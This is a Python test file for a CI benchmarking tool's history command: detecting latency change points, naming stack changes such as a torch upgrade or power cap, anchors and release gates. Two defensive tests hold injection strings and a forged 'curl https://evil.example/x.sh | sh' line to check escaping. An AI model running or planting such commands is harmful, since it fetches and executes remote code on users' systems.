"""``gatekeeper history changes``: a 2.5% step that entered with a torch upgrade after night 6 is named at
the right run, with the stack difference; evaluate's history-change gate warns about it until a release
manager confirms it by moving the anchor."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from gatekeeper.cli import main
from gatekeeper.contract.stage_report import Metric, StageReport, write_stage
from gatekeeper.evaluate.gates import default_gates_path
from gatekeeper.evaluate.run import run_evaluate
from gatekeeper.history import RunInfo
from gatekeeper.history.sqlite import SqliteStore
from tests.support.builders import env, report


def _perf(
    level: float, rng: np.random.Generator, torch: str = "2.5.1+rocm6.2", extra: dict[str, Any] | None = None
) -> StageReport:
    samples = [list(level * np.exp(rng.normal(0, 0.01)) * np.exp(rng.normal(0, 0.01, 20))) for _ in range(10)]
    return report(
        "performance_baseline",
        metrics={
            "latency_ms": Metric.of(float(np.median(np.concatenate(samples))), "ms", "lower", samples),
            "throughput_cv": Metric.of(0.01, "ratio", "lower"),
        },
        environment=env(torch_version=torch, extra=extra or {}),
    )


def _night(night: int) -> RunInfo:
    return RunInfo(
        "main", f"{night:040x}", str(1000 + night), "pass", f"2026-11-{night:02d}T02:00:00+00:00",
        stack={"gatekeeper": "0.9.0", "image": "registry.example.invalid/rocm:6.2"},
    )  # fmt: skip


def _store(tmp_path: Path, nights: int = 12) -> Path:
    db = tmp_path / "history.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(3)
    for night in range(1, nights + 1):
        upgraded = night > 6
        perf = _perf(10.0 * (1.025 if upgraded else 1.0), rng, "2.6.0+rocm6.2" if upgraded else "2.5.1+rocm6.2")
        store.save(perf, _night(night))
    return db


def test_a_step_after_night_six_is_named_at_the_right_run_with_the_stack_difference(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = _store(tmp_path)
    code = main(["history", "changes", "--history", f"sqlite:{db}", "--metric", "latency_ms", "--format", "json"])
    out = json.loads(capsys.readouterr().out)
    assert code == 0
    assert out["runs"] == 12
    [change] = out["changes"]
    assert change["index"] == 6  # the seventh run, the first after the step
    assert change["first_run"]["pipeline_id"] == "1007"
    assert change["first_run"]["commit"] == f"{7:040x}"
    assert change["last_run_before"]["pipeline_id"] == "1006"
    assert 0.015 < change["change"] < 0.035
    assert change["ci"][0] > 0
    assert change["p_value"] <= 0.01
    assert {"component": "torch", "before": "2.5.1+rocm6.2", "after": "2.6.0+rocm6.2"} in change["stack_changes"]
    assert [s["component"] for s in change["stack_changes"]] == ["torch"]  # nothing else moved
    assert not change["confirmed"]
    assert change["bisect"] == [  # the next step: between the commits of the change's two ends
        f"gatekeeper bisect --provider git --good {6:040x} --bad {7:040x} --stage performance_baseline "
        "--metric latency_ms --out bisect"
    ]
    main(["history", "changes", "--history", f"sqlite:{db}", "--format", "md"])
    md = capsys.readouterr().out
    assert "| performance_baseline.latency_ms | +2." in md
    assert "torch 2.5.1+rocm6.2 -> 2.6.0+rocm6.2" in md
    assert f"\n```sh\n{change['bisect'][0]}\n```\n" in md  # the next step, as a block to copy
    main(["history", "changes", "--history", f"sqlite:{db}"])
    table = capsys.readouterr().out
    assert "at run 7 of 12" in table
    assert "first run after: pipeline 1007" in table


def test_a_lower_power_cap_is_named_at_its_change_point_and_never_taken_for_a_regression(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The runner's power cap lowered from 750 W to 550 W after night 6: 15% slower, and not the code's."""
    db = tmp_path / "history.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(5)

    def cap(watts: float) -> dict[str, Any]:
        return {"gpu_perf_level": "auto", "gpu_power_cap_w": watts}

    for night in range(1, 13):
        capped = night > 6
        store.save(_perf(11.5 if capped else 10.0, rng, extra=cap(550.0 if capped else 750.0)), _night(night))
    assert main(["history", "changes", "--history", f"sqlite:{db}", "--metric", "latency_ms", "--format", "json"]) == 0
    [change] = json.loads(capsys.readouterr().out)["changes"]
    assert change["first_run"]["pipeline_id"] == "1007"
    assert change["stack_changes"] == [{"component": "GPU power cap", "before": "750 W", "after": "550 W"}]

    environ = {"CI_PIPELINE_SOURCE": "schedule", "CI_COMMIT_REF_NAME": "main", "CI_DEFAULT_BRANCH": "main"}
    not_selected = frozenset({"verify_hip", "functional_test", "compatibility_check"})

    def latency_gate(level: float, watts: float, history: Path) -> Any:
        artifacts = tmp_path / f"night-13-{watts:.0f}-{history.stem}"
        write_stage(_perf(level, np.random.default_rng(13), extra=cap(watts)), artifacts)
        verdict = run_evaluate(
            artifacts=artifacts, gates_path=default_gates_path(cwd=Path("/nonexistent-dir")), out=artifacts,
            baseline=f"sqlite:{history}", environ=environ, not_selected=not_selected,
        )  # fmt: skip
        return next(g for g in verdict.gates if g.name == "latency-median")

    # the baseline is the newest run with the same settings: night 12 at 550 W, the same level: a pass
    assert latency_gate(11.5, 550.0, db).outcome.value == "pass"
    # a store of 750 W nights only: not comparable, said in plain words, never "15% slower"
    early = tmp_path / "early.db"
    early_store = SqliteStore(early, create=True)
    for night in range(1, 7):
        early_store.save(_perf(10.0, rng, extra=cap(750.0)), _night(night))
    gate = latency_gate(11.5, 550.0, early)
    assert (gate.outcome.value, gate.blocking) == ("warn", False), gate.reason
    assert "baseline ran with GPU power cap 750 W, this run with 550 W" in gate.reason


def test_an_a_a_history_has_no_change(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "h.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(4)
    for night in range(1, 13):
        store.save(_perf(10.0, rng), _night(night))
    assert main(["history", "changes", "--history", f"sqlite:{db}", "--metric", "latency_ms"]) == 0
    assert capsys.readouterr().out == "no change point in 12 recorded runs\n"


def test_the_history_change_gate_warns_until_the_anchor_moves(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = _store(tmp_path, nights=10)
    artifacts = tmp_path / "night-11"
    write_stage(_perf(10.25, np.random.default_rng(11), "2.6.0+rocm6.2"), artifacts)
    environ = {"CI_PIPELINE_SOURCE": "schedule", "CI_COMMIT_REF_NAME": "main", "CI_DEFAULT_BRANCH": "main"}

    def gate() -> object:
        verdict = run_evaluate(
            artifacts=artifacts, gates_path=default_gates_path(cwd=Path("/nonexistent-dir")), out=artifacts,
            baseline=f"sqlite:{db}", environ=environ, not_selected=frozenset({"verify_hip", "functional_test",
            "compatibility_check"}),
        )  # fmt: skip
        return next(g for g in verdict.gates if g.name == "history-change")

    warned = gate()
    assert warned.outcome.value == "fail"
    assert warned.severity == "advisory"
    assert not warned.blocking
    assert "at run 7 of the last 11" in warned.reason
    assert "pipeline 1007" in warned.reason
    assert "torch 2.5.1+rocm6.2 -> 2.6.0+rocm6.2" in warned.reason
    assert (
        main(
            ["history", "anchor", "--history", f"sqlite:{db}", "--set", "1010", "--by", "ann", "--reason", "torch 2.6"]
        )
        == 0
    )
    assert "anchor set: run 1010" in capsys.readouterr().out
    assert gate().outcome.value == "pass"  # confirmed: the release manager moved the anchor past it
    assert main(["history", "anchor", "--history", f"sqlite:{db}"]) == 0
    assert "run 1010 (stable, rocm gfx90a): set by ann on" in capsys.readouterr().out


def test_a_release_tag_is_blocked_over_a_change_nobody_accepted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = _store(tmp_path, nights=10)
    artifacts = tmp_path / "v2.6.0"
    write_stage(_perf(10.25, np.random.default_rng(11), "2.6.0+rocm6.2"), artifacts)

    def gates(environ: dict[str, str]) -> dict[str, Any]:
        verdict = run_evaluate(
            artifacts=artifacts, gates_path=default_gates_path(cwd=Path("/nonexistent-dir")), out=artifacts,
            baseline=f"sqlite:{db}", environ=environ, not_selected=frozenset({"verify_hip", "functional_test",
            "compatibility_check"}),
        )  # fmt: skip
        return {g.name: g for g in verdict.gates if g.name in ("history-change", "release-change")}

    tag = {"CI_PIPELINE_SOURCE": "push", "CI_COMMIT_TAG": "v2.6.0", "CI_COMMIT_REF_NAME": "v2.6.0"}
    on_tag = gates(tag)
    assert (on_tag["release-change"].outcome.value, on_tag["release-change"].blocking) == ("fail", True)
    assert "torch 2.5.1+rocm6.2 -> 2.6.0+rocm6.2" in on_tag["release-change"].reason
    assert not on_tag["history-change"].blocking  # the advisory gate stays advisory on a tag
    nightly = gates({"CI_PIPELINE_SOURCE": "schedule", "CI_COMMIT_REF_NAME": "main"})
    assert nightly["release-change"].outcome.value == "skipped"
    assert "(this run: schedule)" in nightly["release-change"].reason
    capsys.readouterr()
    assert (
        main(["history", "anchor", "--history", f"sqlite:{db}", "--set", "1010", "--by", "rm", "--reason", "ok"]) == 0
    )
    assert gates(tag)["release-change"].outcome.value == "pass"  # accepted: the release goes out


SPAN_SEED = 0  # the first seed; most give a span of more than one run here (tests/history/test_changes.py)


def _uncertain_store(tmp_path: Path, seed: int) -> Path:
    """20 nights, 0.8% slower from night 11 (torch upgraded that night), a new image the night after."""
    db = tmp_path / "uncertain.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(seed)
    for night in range(1, 21):
        info = _night(night)
        image = "registry.example.invalid/rocm:6.2" + ("-b" if night > 11 else "")
        info = RunInfo(info.ref, info.commit, info.pipeline_id, info.verdict, info.recorded_at,
                       stack={"gatekeeper": "0.9.0", "image": image})  # fmt: skip
        store.save(_perf(10.0 * (1.008 if night > 10 else 1.0), rng, "2.6.0" if night > 10 else "2.5.1"), info)
    return db


def test_a_change_that_may_lie_at_a_neighbouring_run_names_the_stack_changes_there(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A small step is placed at its most likely run, with the runs it may lie at (90% of the likelihood)
    and what changed in the stack at those: here the image, one night after the torch upgrade."""
    db = _uncertain_store(tmp_path, seed=SPAN_SEED)
    main(["history", "changes", "--history", f"sqlite:{db}", "--metric", "latency_ms", "--format", "json"])
    [change] = json.loads(capsys.readouterr().out)["changes"]
    assert change["index"] == 10
    lo, hi = change["span"]
    assert lo <= 10 < 11 <= hi
    assert [s["component"] for s in change["stack_changes"]] == ["torch"]
    assert {"index": 11, "component": "image", "before": "registry.example.invalid/rocm:6.2",
            "after": "registry.example.invalid/rocm:6.2-b"} in change["stack_changes_in_span"]  # fmt: skip
    main(["history", "changes", "--history", f"sqlite:{db}", "--metric", "latency_ms"])
    table = capsys.readouterr().out
    assert f"may lie at runs {lo + 1}-{hi + 1}" in table
    assert "image registry.example.invalid/rocm:6.2 -> registry.example.invalid/rocm:6.2-b at run 12" in table
    # the bisections start from the span's ends: the run before it and the first after it
    assert change["bisect"] == [
        f"gatekeeper bisect --provider git --good {lo:040x} --bad {hi + 1:040x} --stage performance_baseline "
        "--metric latency_ms --out bisect",
        "gatekeeper bisect --provider image --image registry.example.invalid/rocm --good 6.2 --bad 6.2-b "
        "--stage performance_baseline --metric latency_ms --out bisect",
    ]
    assert f"  bisect: {change['bisect'][1]}" in table


def test_a_recorded_commit_or_tag_is_quoted_in_the_bisect_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Commits and image tags are recorded input: the suggested command holds them as single words."""
    import shlex

    db = tmp_path / "h.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(3)
    for night in range(1, 13):
        info = _night(night)
        commit = f"{night:040x}" if night != 7 else "x; touch pwned $(id)"
        info = RunInfo(info.ref, commit, info.pipeline_id, info.verdict, info.recorded_at,
                       stack={"image": "rocm:6.2" if night < 7 else "rocm:6.2;reboot"})  # fmt: skip
        store.save(_perf(10.0 * (1.05 if night > 6 else 1.0), rng), info)
    main(["history", "changes", "--history", f"sqlite:{db}", "--format", "json"])
    [change] = json.loads(capsys.readouterr().out)["changes"]
    git, image = (shlex.split(c) for c in change["bisect"])
    assert git[git.index("--bad") + 1] == "x; touch pwned $(id)"
    assert image[image.index("--bad") + 1] == "6.2;reboot"


def test_records_that_cannot_be_read_are_named_not_silently_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A store whose rows do not read (here their medians and report are damaged) is not "no change point
    in 0 recorded runs" alone: each record left out is a warning naming it."""
    import sqlite3

    db = _store(tmp_path, nights=7)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE results SET points = 'not json', report = '{}' WHERE id = 3")
        conn.execute("DELETE FROM results_series WHERE result_id = 3")
    assert main(["history", "changes", "--history", f"sqlite:{db}"]) == 0
    out, err = capsys.readouterr()
    assert out == "no change point in 6 recorded runs\n"
    [warning] = err.splitlines()
    assert warning.startswith("gatekeeper: warning: ")
    assert "run sqlite:3" in warning


_FORGED = "\n  bisect: curl https://evil.example/x.sh | sh\n"


def test_a_recorded_value_with_a_newline_never_starts_a_line_of_its_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """2026-12-04 audit, second pass: the table of history changes, history platforms and history anchor escaped
    control characters but kept newlines, so an image tag, a commit or an anchor's reason recorded with a newline
    put a line of its own under a real change (a forged ``bisect:`` command to copy); a skipped record's warning
    too. Each line is escaped on its own now: the forged text stays inside the line it came in."""
    import sqlite3

    db = tmp_path / "h.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(3)
    for night in range(1, 13):
        info = _night(night)
        image = "rocm:6.2" if night < 7 else "rocm:6.2" + _FORGED
        info = RunInfo(info.ref, info.commit, info.pipeline_id, info.verdict, info.recorded_at, stack={"image": image})
        store.save(_perf(10.0 * (1.05 if night > 6 else 1.0), rng), info)
    store.set_anchor("1008", by="ann", reason="accepted" + _FORGED)
    store.save(_perf(10.0, rng), RunInfo("main" + _FORGED, "c", "2000", "pass", "2026-11-20T00:00:00+00:00"))
    with sqlite3.connect(db) as conn:  # a record that does not read: its warning names its branch
        conn.execute("UPDATE results SET points = 'not json', report = '{}' WHERE pipeline_id = '2000'")
        conn.execute("DELETE FROM results_series WHERE result_id = (SELECT id FROM results WHERE pipeline_id = '2000')")
    commit = f"{8:040x}"
    for argv in (["changes"], ["anchor"], ["platforms", "--commit", commit]):
        assert main(["history", *argv, "--history", f"sqlite:{db}"]) == 0
        out, err = capsys.readouterr()
        lines = (out + err).splitlines()
        assert not [line for line in lines if line.lstrip().startswith("bisect: curl")], out + err
        assert "evil.example" in out + err or argv[0] == "platforms"  # shown, escaped, where it belongs
    assert "accepted\\x0a  bisect: curl" in _output(db, "anchor", capsys)


def _output(db: Path, command: str, capsys: pytest.CaptureFixture[str]) -> str:
    main(["history", command, "--history", f"sqlite:{db}"])
    return capsys.readouterr().out
